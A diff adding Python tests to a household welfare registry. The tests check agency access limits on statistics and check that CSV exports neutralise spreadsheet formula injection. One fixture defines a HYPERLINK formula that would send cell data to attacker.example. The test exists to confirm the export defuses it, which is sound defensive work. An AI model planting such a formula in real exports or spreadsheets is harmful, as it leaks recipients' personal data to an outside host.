@@ -1,0 +1,78 @@
+"""What agencies read: statistics only of the programs they were granted, and CSV exports a
+spreadsheet opens without running any cell as a formula (OWASP's CSV injection advice)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+from dtks_contracts.household import Member
+from dtks_contracts.vocabulary.programs import Program
+from dtks_contracts.vocabulary.roles import Role
+from dtks_registry.domain.identity import household_id_for
+from dtks_registry.testing import acceptance, ago, make_household
+
+FORMULA = '=HYPERLINK("http://attacker.example/?d="&A2,"Klik")'
+
+
+def _named(i: int, head: str, spouse: str):
+    household = make_household(i)
+    head_member, spouse_member = household.members
+    return household.model_copy(
+        update={
+            "members": (
+                Member.model_validate({**head_member.model_dump(), "name": head}),
+                Member.model_validate({**spouse_member.model_dump(), "name": spouse}),
+            )
+        }
+    )
+
+
+async def test_an_agency_sees_statistics_only_of_its_granted_programs(registry):
+    await registry.accept(
+        [
+            acceptance("prop-stats-pkh", accepted_at=ago(2), household=make_household(61), programs=[Program.PKH]),
+            acceptance("prop-stats-bpnt", accepted_at=ago(2), household=make_household(62), programs=[Program.BPNT]),
+            acceptance(
+                "prop-stats-both", accepted_at=ago(2), household=make_household(63),
+                programs=[Program.PKH, Program.BPNT],
+            ),
+        ]
+    )  # fmt: skip
+    issued = await registry.decree("31/HUK/2027", "2027-01", cutoff=ago(1))
+    assert issued.status_code == 201, issued.text
+
+    national = (await registry.client.get("/stats", headers=registry.auth(Role.AUDITOR))).json()
+    assert (national["households"], national["people"]) == (3, 6)
+    assert [p["program"] for p in national["by_program"]] == ["BPNT", "PKH"]
+
+    pkh_agency = registry.auth(Role.AGENCY, "ID", programs=("PKH",))
+    stats = (await registry.client.get("/stats", headers=pkh_agency)).json()
+    assert (stats["households"], stats["people"]) == (2, 4)
+    assert stats["by_program"] == [{"program": "PKH", "households": 2, "people": 4}]
+    assert sum(r["households"] for r in stats["by_region"]) == 2
+
+
+async def test_the_csv_export_neutralises_formula_cells_and_the_jsonl_is_untouched(registry):
+    pid = "prop-csv-formula"
+    household = _named(71, FORMULA, "+62 812 Budi")
+    await registry.accept([acceptance(pid, accepted_at=ago(2), household=household, programs=[Program.PKH])])
+    issued = await registry.decree("32/HUK/2027", "2027-01", cutoff=ago(1))
+    assert issued.status_code == 201, issued.text
+    agency = registry.auth(Role.AGENCY, "ID", programs=("PKH",))
+
+    export = await registry.client.get("/determinations/32/HUK/2027/export", headers=agency)
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [r["name"] for r in rows] == ["'" + FORMULA, "'+62 812 Budi"]
+    assert all(r["household_id"] == household_id_for(pid) for r in rows)
+    # No cell of the file begins with a formula character any more.
+    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    jsonl = await registry.client.get(
+        "/determinations/32/HUK/2027/export", params={"format": "jsonl"}, headers=agency
+    )
+    [line] = jsonl.text.splitlines()
+    assert [m["name"] for m in json.loads(line)["members"]] == [FORMULA, "+62 812 Budi"]
